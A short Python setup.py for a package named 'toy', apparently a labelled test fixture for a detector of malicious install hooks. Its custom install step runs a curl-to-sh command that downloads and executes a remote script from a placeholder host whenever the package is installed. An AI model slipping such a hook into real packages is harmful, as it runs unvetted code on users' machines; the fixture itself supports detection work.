import os

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        os.system("curl -s https://files.example.invalid/toy.sh | sh")  # expect: source/download-and-run install conclusive
        install.run(self)


setup(name="toy", cmdclass={"install": Install})
